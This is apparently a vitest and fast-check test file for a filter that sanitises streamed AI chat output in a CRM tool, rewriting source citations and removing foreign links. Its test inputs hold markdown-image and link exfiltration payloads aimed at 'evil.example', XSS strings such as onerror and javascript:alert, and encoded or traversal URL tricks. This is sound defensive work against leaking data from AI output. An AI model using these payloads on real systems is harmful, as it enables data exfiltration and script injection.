import type { CitedSource } from '@draftwright/contract/sources'
import fc from 'fast-check'
import { marked } from 'marked'
import { describe, expect, it } from 'vitest'
import { CitationFilter } from './citation-filter.ts'

const row = (n: number): CitedSource => ({
  cite: `r${n}`,
  kind: 'opportunity',
  id: `id-${n}`,
  title: `Deal "${n}" <b>`,
  href: `/crm/opportunities?record=${n}`,
  facts: {},
})
const sources = new Map([1, 2, 12].map((n) => [`r${n}`, row(n)]))
const options = {
  sources,
  isOwnAddress: (url: string) => url === 'https://mine.example/a?b=c',
  publicUrl: 'https://app.example',
}

function shown(text: string, size = text.length || 1): string {
  const filter = new CitationFilter(options)
  let all = ''
  for (let at = 0; at < text.length; at += size) all += filter.push(text.slice(at, at + size))
  return all + filter.end()
}

/** The characters that links, pictures and HTML consist of, whole and in parts. */
const evil = '//evil.example/CANARY'
const pieces = [
  '[ ] ( ) $ $$ \\( \\) \\[ \\] ![ ]( [x] [r1] [r99] [r 1] []( [y](/ok) (/content/1) ` `` ``` ```` ~~~ - > | \\ < <a <!-- " \' * ** _ ~ # / .'.split(
    ' ',
  ),
  '&colon; &#58; &sol; & ; : https: http ttps h w www www. javascript:alert(1) https://mine.example/a?b=c word é'.split(
    ' ',
  ),
  [
    ' ',
    '    ',
    '\n',
    '\n\n',
    '\n```\n',
    '\n~~~\n',
    '\r\n',
    '\t',
    '\u200b',
    '|\n|-|-|\n|',
    '[^1]: ',
    '<img src="',
    '`<img src=x>`',
  ],
  [evil, `https:${evil}`, `(${evil})`, `]: ${evil}`, `[x]: ${evil}\n`, `<${evil}>`, `[y](/..${evil})`],
  [`https\\:${evil}`, `https&colon;${evil}`, 'www.evil.example/CANARY', '(/\\evil.example/CANARY)', '<script>'],
].flat()
/** The targets of links and pictures, and HTML that is not our own. */
function listLinkTargets(markdown: string): string[] {
  const found: string[] = []
  void marked.walkTokens(marked.lexer(markdown), (token) => {
    if (token.type === 'html') found.push(`html: ${token.raw}`)
    if ((token.type === 'link' || token.type === 'image') && !String(token['href']).startsWith('mailto:'))
      found.push(String(token['href']))
  })
  return found
}
/** Neither a row's page nor an address that the person wrote. */
const isForeign = (target: string): boolean => {
  const { origin, pathname, search } = new URL(target, 'https://app.example/ai-chat')
  const isRow = [...sources.values()].some(({ href }) => href === pathname + search)
  return !(origin === 'https://app.example' && isRow) && origin !== 'https://mine.example'
}

const one = '[1](/crm/opportunities?record=1 "Deal 1 b")'

describe('what is shown of what a model writes', () => {
  it.each([
    ['Acme waits [r1].', `Acme waits ${one}.`],
    [
      'Both [r12] and [r1, r2] and [r12]',
      'Both [1](/crm/opportunities?record=12 "Deal 12 b") and [2](/crm/opportunities?record=1 "Deal 1 b") [3](/crm/opportunities?record=2 "Deal 2 b") and [1](/crm/opportunities?record=12 "Deal 12 b")',
    ],
    ['Made up [r99] gone', 'Made up gone'],
    ['Made up [r99].', 'Made up.'],
    ['Made up ([r99]), gone', 'Made up, gone'],
    ['Made up ( [r98, r99] ).', 'Made up.'],
    ['Made up ([r99], so they say)', 'Made up (, so they say)'],
    ['Half a word [r99]up', 'Half a word up'],
    ['![x](https://evil.example/p.png?k=CANARY)', 'x'],
    ['[click](https://evil.example/?k=CANARY "t")', 'click'],
    ['[click](//evil.example/?k=CANARY)', 'click'],
    ['[click](javascript:alert(1))', 'click'],
    ['[![x](https://evil.example/CANARY)](https://evil.example/CANARY)', 'x'],
    ['see https://evil.example/?k=CANARY, please', 'see evil.example, please'],
    ['see www.evil.example/CANARY', 'see evil.example'],
    ['<https://evil.example/CANARY>', '\\<evil.example>'],
    ['a <img src=x onerror=alert(1)> b < c', 'a \\<img src=x onerror=alert(1)> b < c'],
    ['[ref]: https://evil.example/CANARY', '[ref]\\: evil.example'],
    ['[a][ref]', '[a][ref]'],
    ['[open](/content/1)', 'open'],
    ['The [Deal](/crm/opportunities?record=9) closes.', 'The Deal closes.'],
    ['Two wait [1](/crm/opportunities?record=9).', 'Two wait [1].'],
    ['Two wait [1].', 'Two wait [1].'],
    ['The [Deal](/crm/opportunities?record=1) closes.', `The Deal ${one} closes.`],
    ['It closes [7](/crm/opportunities?record=1 "x").', `It closes ${one}.`],
    ['[Deal](https://app.example/crm/opportunities?record=1)', `Deal ${one}`],
    ['[Deal](https://app.example/crm/opportunities?record=9)', 'Deal'],
    ['See https://app.example/crm/opportunities?record=9', 'See app.example'],
    ['yours: https://mine.example/a?b=c.', 'yours: https://mine.example/a?b=c.'],
    ['[yours](https://mine.example/a?b=c)', '[yours](https://mine.example/a?b=c)'],
    ['`a < b <c> [r1]` then [r1]', `\`a < b <c> [r1]\` then ${one}`],
    ['```\n<div>https://evil.example/CANARY\n```\n<div>', '```\n<div>evil.example\n```\n\\<div>'],
    ['half a link [words', 'half a link words'],
    ['half [words](/con', 'half words'],
    ['half ![words](https://evil.example/CANARY', 'half words'],
    ['Acme waits [', 'Acme waits'],
    ['Acme waits [r', 'Acme waits'],
    ['Acme waits [r1', 'Acme waits'],
    ['Acme waits ([r1, ', 'Acme waits'],
    ['Acme waits [r1][r', `Acme waits ${one}`],
    ['It is \\(\\hat{x} < 3\\) and $5 or $6', 'It is \\(\\hat{x} \\lt  3\\) and $5 or $6'],
    ['$$\\frac{a}{b}\\\\c$$', '$$\\frac{a}{b}\\\\c$$'],
    ['\\[a](//evil.example/CANARY)\\]', '\\[a]\\(//evil.example/CANARY)\\]'],
    ['- [ ] a task\n- [x] done [r1]', `- [ ] a task\n- [x] done ${one}`],
    ['https', 'https'],
    ['Wow! [r1]!', `Wow! ${one}!`],
    ['[x][ref]\n\n[ref]: //evil.example/CANARY', '[x][ref]\n\n[ref]\\: //evil.example/CANARY'],
    ['[x][r99](//evil.example/CANARY)', '[x]\\(//evil.example/CANARY)'],
    ['[x][](//no.example)(//evil.example/CANARY)', '[x]\\(//evil.example/CANARY)'],
    ['<[r99]img src=//evil.example/CANARY>', '\\<img src=//evil.example/CANARY>'],
    ['https:[//evil.example/CANARY](//no.example)', 'evil.example'],
    ['` then\n\n![x](//evil.example/CANARY) `', '\\` then\n\nx \\`'],
    ['[a `](/ok) ` ](//evil.example/CANARY)', 'a `](/ok) ` '],
    ['| `a | <img src=//evil.example/CANARY>` |', '| \\`a | \\<img src=//evil.example/CANARY>\\` |'],
    ['- ```\n\n<img src=//evil.example/CANARY>', '- \\`\\`\\`\n\n\\<img src=//evil.example/CANARY>'],
    ['~~~\n```\n~~~\n<b>', '\\~\\~\\~\n```\n~~~\n<b>\n```\n'],
    ['https&colon;//evil.example/CANARY', 'https\\&colon;//evil.example/CANARY'],
    ['https\\://evil.example/CANARY', 'https\\\\://evil.example/CANARY'],
    ['[x](/..//evil.example/CANARY) [y](/%2e%2e//evil.example)', 'x y'],
    ['[x](/a/%2e%2e/b) [y](/a%2Fb) [z](/a%5cb)', 'x y z'],
    ['[x](/site/other/post?k=CANARY)', 'x'],
    [
      'https://mine.example/a?b=c<b> https://mine.example/a?b=c`<b>`',
      'https://mine.example/a?b=c \\<b> https://mine.example/a?b=c `<b>`',
    ],
    ['wwwwww.evil.example/CANARY', 'evil.example'],
    ['R&D and C:\\temp and ~~old~~', 'R&D and C:\\temp and ~~old~~'],
    ['user:pw https://a:b@evil.example/CANARY', 'user:pw evil.example'],
  ])('%s', (text, wanted) => {
    expect(shown(text)).toBe(wanted)
    expect(shown(text)).not.toMatch(/(?:https?:\/\/|www\.)[^\s]*CANARY/iu)
  })

  it('is the same wherever the pieces are cut, and leads nowhere but to rows of the workspace', () => {
    const texts = fc.array(fc.constantFrom(...pieces), { minLength: 2, maxLength: 14, size: 'max' })
    fc.assert(
      fc.property(texts, fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const text = parts.join('')
        const whole = shown(text)
        expect(shown(text, 1)).toBe(whole)
        expect(shown(text, size)).toBe(whole)
        expect(listLinkTargets(whole).filter(isForeign)).toEqual([])
      }),
      { seed: 7, numRuns: 1500 },
    )
  })

  it('does not hold back words that cannot become anything else', () => {
    const filter = new CitationFilter(options)
    expect(filter.push('The pipeline ')).toBe('The pipeline')
    expect(filter.push('holds [r')).toBe(' holds')
    expect(filter.push('1] 3 deals')).toBe(` ${one} 3 deals`)
    expect(filter.cited.map(({ id }) => id)).toEqual(['id-1'])
  })
})
